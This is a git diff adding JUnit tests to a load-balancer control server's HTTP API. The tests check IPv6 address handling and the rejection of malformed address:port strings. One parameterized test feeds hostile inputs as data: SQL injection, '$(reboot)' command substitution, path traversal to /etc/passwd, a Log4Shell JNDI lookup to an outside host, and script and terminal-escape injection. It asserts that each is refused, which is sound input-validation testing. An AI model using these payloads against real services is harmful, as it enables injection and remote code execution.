@@ -6,12 +6,13 @@ import static org.junit.jupiter.api.Assertions.assertTimeoutPreemptively;
 
 import com.fasterxml.jackson.databind.JsonNode;
 import com.fasterxml.jackson.databind.ObjectMapper;
+import com.fasterxml.jackson.databind.node.ObjectNode;
 import dev.trigon.dataplane.service.Protocol;
 import dev.trigon.dataplane.service.Refusal;
 import java.io.IOException;
-import java.net.Inet4Address;
 import java.net.InetAddress;
 import java.net.StandardProtocolFamily;
+import java.net.URLEncoder;
 import java.net.UnixDomainSocketAddress;
 import java.nio.ByteBuffer;
 import java.nio.channels.ServerSocketChannel;
@@ -28,6 +29,8 @@ import org.junit.jupiter.api.AfterEach;
 import org.junit.jupiter.api.BeforeEach;
 import org.junit.jupiter.api.Test;
 import org.junit.jupiter.api.io.TempDir;
+import org.junit.jupiter.params.ParameterizedTest;
+import org.junit.jupiter.params.provider.ValueSource;
 
 class ControlServerTest {
     private static final ObjectMapper MAPPER = new ObjectMapper();
@@ -297,6 +300,117 @@ class ControlServerTest {
                                 """));
     }
 
+    @Test
+    void shouldSpeakOfIpv6AsOneWritesIt() throws IOException {
+        String web6 = WEB.replace("203.0.113.10", "2001:DB8:F:0:0::10").replace("10.2.0.1", "2001:db8:2:0::1");
+        JsonNode service = json(http.send("POST", "/v1/services", web6));
+        assertThat(service.get("vip").asText()).isEqualTo("2001:db8:f::10");
+        assertThat(service.get("backends").get(0).get("address").asText()).isEqualTo("2001:db8:2::11");
+        dataPath.flows.add(new DataPath.Flow(
+                Protocol.UDP, address("2001:db8:c::10"), 40_000, address("2001:db8:f::10"), 80, 1, "udp", 3, 12, 900));
+        JsonNode flow = json(http.get("/v1/flows")).get(0);
+        assertThat(flow.get("client").asText()).isEqualTo("[2001:db8:c::10]:40000");
+        assertThat(flow.get("vip").asText()).isEqualTo("[2001:db8:f::10]:80");
+        dataPath.explanation = new DataPath.Explanation("web", 2, "hash");
+        assertThat(json(http.get(
+                        "/v1/explain?protocol=udp&client=%5B2001:DB8:C:0::10%5D:40000&vip=%5b2001:db8:f::10%5d:80")))
+                .isEqualTo(MAPPER.readTree("""
+                                {"protocol": "udp", "client": "[2001:db8:c::10]:40000", "vip": "[2001:db8:f::10]:80",
+                                 "service": "web", "backend": "b2", "address": "2001:db8:2::12", "reason": "hash"}
+                                """));
+        assertThat(json(http.send("PATCH", "/v1/services/web", "{\"vip\": \"203.0.113.10\"}"))
+                        .get("error")
+                        .get("why")
+                        .asText())
+                .isEqualTo("its address 2001:db8:2::11 is IPv6 and VIP 203.0.113.10 is IPv4, and a packet keeps its"
+                        + " family");
+    }
+
+    @ParameterizedTest
+    @ValueSource(
+            strings = {
+                "",
+                "198.51.100.10",
+                "198.51.100.10:",
+                "198.51.100.10:65536",
+                "198.51.100.10:99999999999",
+                "198.51.100.10:-1",
+                "198.51.100.10:80:80",
+                "198.51.100.256:80",
+                "example.com:80",
+                "2001:db8:c::10:40000",
+                "2001:db8:c::10",
+                "[2001:db8:c::10]",
+                "[2001:db8:c::10]:",
+                "[2001:db8:c::10]40000",
+                "[2001:db8:c::10%eth0]:40000",
+                "[::ffff:198.51.100.10]:40000",
+                "[198.51.100.10]:40000",
+                "[2001:db8:c::10:40000",
+                "2001:db8:c::10]:40000",
+                "198.51.100.10:80' OR '1'='1",
+                "../../etc/passwd",
+            })
+    void shouldExplainOnlyWhatIsAnAddressAndAPort(String client) throws IOException {
+        String query = URLEncoder.encode(client, StandardCharsets.UTF_8);
+        UnixHttp.Reply reply = http.get("/v1/explain?protocol=tcp&vip=203.0.113.10:80&client=" + query);
+
+        assertThat(reply.status()).isIn(400, 422);
+        assertThat(json(reply).get("error").get("why").asText()).startsWith("'client' is ");
+    }
+
+    @Test
+    void shouldExplainNoPacketOfTwoFamilies() throws IOException {
+        UnixHttp.Reply reply = http.get("/v1/explain?protocol=tcp&client=198.51.100.10:1&vip=%5B2001:db8:f::10%5D:80");
+
+        assertError(reply, 422, "explain");
+        assertThat(json(reply).get("error").get("why").asText())
+                .isEqualTo("the client's address is IPv4 and the VIP's is IPv6");
+    }
+
+    /** Names and values are data, whatever they look like; what comes back is one short line. */
+    @ParameterizedTest
+    @ValueSource(
+            strings = {
+                "'; DROP TABLE services; --",
+                "\" OR \"\"=\"",
+                "$(reboot)",
+                "`reboot`",
+                "../../../etc/passwd",
+                "%s%n%x",
+                "${jndi:ldap://203.0.113.1/a}",
+                "<script>alert(1)</script>",
+                "\u001b[2J\u0007",
+                "\u202Egnp.exe",
+                "a\nb: c",
+            })
+    void shouldTakeNonsenseForNonsense(String nonsense) throws IOException {
+        for (String text : List.of(nonsense, nonsense.repeat(10_000))) {
+            for (String field : List.of("name", "vip", "protocol", "ports", "forward", "scheduler", "backends", text)) {
+                ObjectNode service = (ObjectNode) MAPPER.readTree(WEB);
+                service.put(field, text);
+                UnixHttp.Reply reply = http.send("POST", "/v1/services", MAPPER.writeValueAsString(service));
+
+                assertThat(reply.status()).as(field).isIn(400, 422);
+                JsonNode error = json(reply).get("error");
+                for (String part : List.of("what", "why", "remedy")) {
+                    assertThat(error.get(part).asText())
+                            .isNotEmpty()
+                            .hasSizeLessThan(1_100)
+                            .matches("[^\\p{Cc}\\p{Cf}]+");
+                }
+            }
+        }
+        String escaped = URLEncoder.encode(nonsense, StandardCharsets.UTF_8).replace("+", "%20");
+        if (!nonsense.contains("/")) {
+            assertThat(http.get("/v1/services/" + escaped).status()).isIn(400, 404);
+        }
+        assertThat(http.get("/v1/flows?limit=" + escaped).status()).isEqualTo(400);
+        assertThat(http.get("/v1/explain?client=1&vip=1&protocol=" + escaped).status())
+                .isEqualTo(422);
+        assertThat(json(http.get("/v1/services"))).isEmpty();
+    }
+
     private static DataPath.Flow flow(int port, int backendId) throws IOException {
         return new DataPath.Flow(
                 Protocol.TCP,
@@ -311,8 +425,8 @@ class ControlServerTest {
                 900);
     }
 
-    private static Inet4Address address(String text) throws IOException {
-        return (Inet4Address) InetAddress.getByName(text);
+    private static InetAddress address(String text) throws IOException {
+        return InetAddress.getByName(text);
     }
 
     private static void assertError(UnixHttp.Reply reply, int status, String what) throws IOException {
